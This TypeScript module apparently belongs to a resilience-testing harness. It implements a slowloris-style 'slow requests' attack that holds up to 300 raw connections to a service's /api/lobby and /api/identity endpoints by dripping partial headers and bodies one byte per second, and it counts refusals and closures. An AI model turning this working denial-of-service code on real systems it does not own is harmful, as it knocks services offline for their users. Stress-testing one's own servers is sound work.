import type { Socket } from 'node:net';
import { type Attack, keepSending } from '../attack.ts';
import { openLine } from '../raw-socket.ts';

const MOST_HELD = 300;
const EVERY_MS = 1000;

/** Requests whose heads and bodies come a byte a second. */
export const slowRequests: Attack = {
  name: 'slow requests',
  from: 1,
  run: async (field) => {
    const { place, tally, over } = field;
    const { host } = new URL(place.base);
    const held = new Set<Socket>();
    await field.ready();
    const drip = setInterval(() => {
      for (const line of held) line.write('x');
    }, EVERY_MS);
    await keepSending(field, { perSecond: 15, atOnce: MOST_HELD }, (number) => {
      if (held.size >= MOST_HELD) return;
      const line = openLine(place);
      held.add(line);
      tally.sent++;
      const head = `host: ${host}\r\n`;
      if (number % 2 === 0) line.write(`GET /api/lobby HTTP/1.1\r\n${head}x-slow: `);
      else
        line.write(
          `POST /api/identity HTTP/1.1\r\n${head}content-type: application/json\r\ncontent-length: 9999\r\n\r\n{"name":"`,
        );
      line.once('data', () => {
        tally.refused++;
      });
      line.resume();
      line.once('close', () => {
        held.delete(line);
        if (!over.aborted) tally.closed++;
      });
    });
    clearInterval(drip);
    for (const line of held) line.destroy();
  },
};
